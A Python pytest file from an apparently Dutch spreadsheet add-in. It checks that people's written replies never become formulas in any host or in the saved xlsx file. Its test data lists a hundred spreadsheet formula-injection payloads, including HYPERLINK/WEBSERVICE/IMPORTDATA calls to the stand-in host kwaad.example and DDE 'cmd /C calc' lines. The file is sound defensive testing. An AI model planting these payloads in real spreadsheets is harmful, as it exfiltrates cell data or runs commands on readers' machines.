"""No word of anybody becomes a formula: a hundred tries through every host, and reading gives the same words back."""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path

import pytest

from addin.domain.talk.letter import SchoolWord
from addin.domain.talk.matters import Reply
from addin.hosts.xlsx import read_xlsx
from addin.reading.school_sheet import words_read_back
from addin.sheet.edit import apply_edits
from tests.hosts.test_parity import HOSTS, Opening, in_a_file
from tests.support.lossless import parts_of
from tests.support.school import workbook
from tests.support.school_words import answered

_CORES = (
    'HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    'WEBSERVICE("http://kwaad.example/"&A1)',
    'IMPORTXML("http://kwaad.example","//a")',
    'IMPORTDATA("http://kwaad.example")',
    'IMAGE("http://kwaad.example/p.png")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"1")',
    "1+1",
    "SUM(A1:A9)",
    "INDIRECT(A1)",
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", "'=")
PAYLOADS = tuple(f"{start}{core}" for core in _CORES for start in _STARTS)
WORDS = [
    SchoolWord(f"p{number}", "Noor Peeters", Reply(date(2026, 3, 2), said)) for number, said in enumerate(PAYLOADS)
]


def test_there_are_a_hundred() -> None:
    assert len(set(PAYLOADS)) == 100


@pytest.mark.parametrize("opening", HOSTS, ids=lambda opening: opening.__name__)
def test_no_word_becomes_a_formula_and_reading_gives_it_back(opening: Opening, tmp_path: Path) -> None:
    with opening(read_xlsx(workbook(), name="lijst.xlsx"), tmp_path) as host:
        replied = answered(host.read(), WORDS)
        host.apply(replied.edits)
        after = host.read()

    assert not any(cell.formula for sheet in after.sheets for cell in sheet.cells.values())
    shown = {cell.value for cell in after.sheets[-1].cells.values()}
    assert set(PAYLOADS) <= shown
    assert set(words_read_back(after)) == set(replied.written)


def test_every_host_ends_with_the_same_sheet(tmp_path: Path) -> None:
    before = read_xlsx(workbook(), name="lijst.xlsx")
    expected = apply_edits(before, answered(before, WORDS).edits).sheets[-1]
    for number, opening in enumerate(HOSTS):
        folder = tmp_path / str(number)
        folder.mkdir()
        with opening(before, folder) as host:
            host.apply(answered(host.read(), WORDS).edits)
            sheet = host.read().sheets[-1]

        assert {
            place: (cell.value, cell.look.fill) for place, cell in sheet.cells.items() if cell.value is not None
        } == {place: (cell.value, cell.look.fill) for place, cell in expected.cells.items() if cell.value is not None}


def test_no_formula_element_of_the_file_holds_a_word_of_anybody(tmp_path: Path) -> None:
    with in_a_file(read_xlsx(workbook(), name="lijst.xlsx"), tmp_path) as host:
        host.apply(answered(host.read(), WORDS).edits)
    for name, part in parts_of((tmp_path / "lijst.xlsx").read_bytes()).items():
        assert not re.search(rb"<(?:\w+:)?f[ >]", part), name
